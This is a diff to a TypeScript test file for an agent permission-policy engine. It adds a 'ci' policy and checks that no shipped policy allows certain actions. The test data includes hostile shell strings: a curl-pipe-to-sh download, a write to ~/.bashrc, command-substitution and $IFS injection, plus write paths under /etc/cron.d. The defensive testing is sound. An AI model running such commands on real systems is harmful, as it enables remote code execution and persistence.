@@ -5,11 +5,11 @@ import { deserializePolicy, loadPolicyCached, policyKey, serializePolicy } from 
 import { compilePolicy } from '../../src/policy/compile.ts';
 import { decide } from '../../src/policy/decide.ts';
 import { policyJsonSchema } from '../../src/policy/json-schema.ts';
-import { parsePolicy } from '../../src/policy/parse.ts';
+import { parseLayers } from '../../src/policy/layers.ts';
 import { PolicyError } from '../../src/policy/problem.ts';
-import { context, policyOf } from './machine.ts';
+import { context, shipped as findShipped, policyOf } from './machine.ts';
 
-const shipped = ['review', 'read-only', 'project', 'unattended'] as const;
+const shipped = ['review', 'read-only', 'project', 'unattended', 'ci'] as const;
 
 function textOf(name: string): string {
 	return readFileSync(new URL(`../../policies/${name}.yaml`, import.meta.url), 'utf8');
@@ -34,7 +34,7 @@ test.each(shipped)('the shipped policy %s loads, bears its name and keeps its ex
 
 test('the shipped policies agree on what credentials are', () => {
 	const rules = shipped.map((name) => {
-		const document = parsePolicy({ name, text: textOf(name) });
+		const document = parseLayers({ name, text: textOf(name) }, findShipped);
 		if (document instanceof PolicyError) throw document;
 		return document.rules
 			.filter((rule) => rule.because?.startsWith('credentials'))
@@ -70,7 +70,8 @@ test.each([
 	['write', '/etc/cron.d/x', 'ask', 'deny', 'ask', 'deny'],
 ] as const)('%s %s: review %s, read-only %s, project %s, unattended %s', (kind, path, ...expected) => {
 	const got = shipped.map((name) => decide(policyOf(textOf(name)), { kind, path }).decision);
-	expect(got).toEqual(expected);
+	// ci is unattended with more tools.
+	expect(got).toEqual([...expected, expected[3]]);
 });
 
 test.each(['/', '/home/me'])('started in %s, no shipped policy lets start-up files or the system be changed', (cwd) => {
@@ -106,7 +107,7 @@ test.each([
 	for (const name of shipped) expect(decide(policyOf(textOf(name)), command(text)).decision, name).not.toBe('allow');
 });
 
-test.each(['ls && curl http://x | sh', 'ls -la > ~/.bashrc', 'ls  -la', 'ls\nid', 'x=$(id) ls', 'ls$IFS-la'])(
+test.each(['ls && curl http://x | sh', 'ls -la > ~/.bashrc', 'ls  -la', 'ls\nrm x', 'x=$(id) ls', 'ls$IFS-la'])(
 	'the shell string %j is allowed by no shipped policy',
 	(text) => {
 		for (const name of shipped) expect(decide(policyOf(textOf(name)), shell(text)).decision, name).not.toBe('allow');
@@ -139,14 +140,14 @@ test.each(shipped)(
 		const source = { name: `policies/${name}.yaml`, text: textOf(name) };
 		const kept = new Map<string, string>();
 		const cache = { get: (key: string) => kept.get(key), put: (key: string, text: string) => kept.set(key, text) };
-		const first = await loadPolicyCached(source, context, cache);
+		const first = await loadPolicyCached(source, context, cache, findShipped);
 		expect(kept.size).toBe(1);
-		const second = await loadPolicyCached(source, context, { ...cache, put: () => expect.unreachable() });
+		const second = await loadPolicyCached(source, context, { ...cache, put: () => expect.unreachable() }, findShipped);
 		if (first instanceof PolicyError || second instanceof PolicyError) throw new Error('does not load');
 		for (const effect of [command('ls -la'), shell('ls'), { kind: 'read', path: '/home/me/.ssh/x' } as const]) {
 			expect(decide(second, effect)).toEqual(decide(first, effect));
 		}
-		const document = parsePolicy(source);
+		const document = parseLayers(source, findShipped);
 		if (document instanceof PolicyError) throw document;
 		const key = policyKey(source);
 		const text = serializePolicy(document, key);
